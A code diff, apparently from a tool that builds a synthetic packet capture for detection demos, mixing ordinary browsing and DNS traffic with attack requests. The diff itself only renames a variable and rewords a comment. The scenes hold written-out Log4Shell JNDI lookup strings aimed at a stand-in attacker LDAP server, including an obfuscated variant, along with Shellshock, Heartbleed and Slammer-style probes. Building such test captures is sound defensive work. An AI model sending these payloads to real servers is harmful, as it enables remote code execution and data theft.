@@ -66,25 +66,25 @@ export function buildDemoCapture(): Buffer {
 }
 
 function demoScenes(): Scene[] {
-  const h = DEMO_HOSTS;
-  const [alice, bob, carol] = h.workstations;
+  const hosts = DEMO_HOSTS;
+  const [alice, bob, carol] = hosts.workstations;
   return [
-    httpScene(0.0, peer(alice, 51_012), peer(h.apache, 80), browse('/', h.apache, FIREFOX), apacheReply('200 OK', 'text/html', WELCOME_PAGE)),
-    udpScene(1.2, peer(alice, 53_533), peer(h.resolver, 53), dnsQuery(0x5c1e, 'www.example.com'), dnsAnswer(0x5c1e, 'www.example.com', '203.0.113.80')),
-    httpScene(4.5, peer(h.log4shellSender, 40_112), peer(h.tomcat, 8080), log4shellRequest(h.tomcat, `\${jndi:ldap://${h.attackerServer}:${DEMO_LDAP_PORT}/x}`), tomcatReply()),
-    httpScene(9.8, peer(bob, 49_870), peer(h.tomcat, 8080), browse('/', `${h.tomcat}:8080`, EDGE), tomcatReply()),
-    httpScene(15.1, peer(h.shellshockSender, 38_004), peer(h.apache, 80), shellshockRequest(h.apache, h.attackerServer), apacheReply('200 OK', 'text/plain', 'OK\n')),
-    httpScene(21.7, peer(carol, 50_221), peer(h.apache, 80), browse('/cgi-bin/status', h.apache, FIREFOX), apacheReply('200 OK', 'text/plain', 'OK\n')),
-    tcpScene(28.3, peer(h.heartbleedSender, 44_390), peer(h.tlsServer, 443), [
+    httpScene(0.0, peer(alice, 51_012), peer(hosts.apache, 80), browse('/', hosts.apache, FIREFOX), apacheReply('200 OK', 'text/html', WELCOME_PAGE)),
+    udpScene(1.2, peer(alice, 53_533), peer(hosts.resolver, 53), dnsQuery(0x5c1e, 'www.example.com'), dnsAnswer(0x5c1e, 'www.example.com', '203.0.113.80')),
+    httpScene(4.5, peer(hosts.log4shellSender, 40_112), peer(hosts.tomcat, 8080), log4shellRequest(hosts.tomcat, `\${jndi:ldap://${hosts.attackerServer}:${DEMO_LDAP_PORT}/x}`), tomcatReply()),
+    httpScene(9.8, peer(bob, 49_870), peer(hosts.tomcat, 8080), browse('/', `${hosts.tomcat}:8080`, EDGE), tomcatReply()),
+    httpScene(15.1, peer(hosts.shellshockSender, 38_004), peer(hosts.apache, 80), shellshockRequest(hosts.apache, hosts.attackerServer), apacheReply('200 OK', 'text/plain', 'OK\n')),
+    httpScene(21.7, peer(carol, 50_221), peer(hosts.apache, 80), browse('/cgi-bin/status', hosts.apache, FIREFOX), apacheReply('200 OK', 'text/plain', 'OK\n')),
+    tcpScene(28.3, peer(hosts.heartbleedSender, 44_390), peer(hosts.tlsServer, 443), [
       { from: 'client', data: clientHello() },
       { from: 'server', data: serverHelloAndDone() },
       { from: 'client', data: heartbleedProbe() },
     ]),
-    httpScene(33.0, peer(h.log4shellObfuscatedSender, 59_300), peer(h.tomcat, 8080), log4shellRequest(h.tomcat, `\${\${lower:j}ndi:\${lower:l}\${lower:d}a\${lower:p}://${h.attackerServer}:${DEMO_LDAP_PORT}/x}`), tomcatReply()),
-    httpScene(38.6, peer(bob, 49_902), peer(h.apache, 80), browse('/about.html', h.apache, EDGE), apacheReply('200 OK', 'text/html', ABOUT_PAGE)),
-    udpScene(44.2, peer(h.sqlSender, 1_434), peer(h.sqlServer, 1434), slammerStyleRequest(h.sqlSender, DEMO_CALLBACK_PORT)),
+    httpScene(33.0, peer(hosts.log4shellObfuscatedSender, 59_300), peer(hosts.tomcat, 8080), log4shellRequest(hosts.tomcat, `\${\${lower:j}ndi:\${lower:l}\${lower:d}a\${lower:p}://${hosts.attackerServer}:${DEMO_LDAP_PORT}/x}`), tomcatReply()),
+    httpScene(38.6, peer(bob, 49_902), peer(hosts.apache, 80), browse('/about.html', hosts.apache, EDGE), apacheReply('200 OK', 'text/html', ABOUT_PAGE)),
+    udpScene(44.2, peer(hosts.sqlSender, 1_434), peer(hosts.sqlServer, 1434), slammerStyleRequest(hosts.sqlSender, DEMO_CALLBACK_PORT)),
     // the same payload as the first Log4Shell request, from another host to another server: one detonation answers both
-    httpScene(51.9, peer(h.log4shellCopySender, 33_718), peer(h.tomcatTwin, 8080), log4shellRequest(h.tomcatTwin, `\${jndi:ldap://${h.attackerServer}:${DEMO_LDAP_PORT}/x}`), tomcatReply()),
+    httpScene(51.9, peer(hosts.log4shellCopySender, 33_718), peer(hosts.tomcatTwin, 8080), log4shellRequest(hosts.tomcatTwin, `\${jndi:ldap://${hosts.attackerServer}:${DEMO_LDAP_PORT}/x}`), tomcatReply()),
   ];
 }
 
@@ -110,7 +110,7 @@ function udpScene(at: number, client: SynthesizedPeer, server: SynthesizedPeer, 
 }
 
 function framesOf(scene: Scene): Frame[] {
-  // turns follow each other at a LAN round trip (a few ms), server answers a little slower
+  // one turn every 4 ms: a LAN round trip and a quick server
   const turns: SynthesizedTurn[] = scene.say.map((turn, index) => ({
     direction: turn.from === 'client' ? 'to_server' : 'to_client',
     data: turn.data,
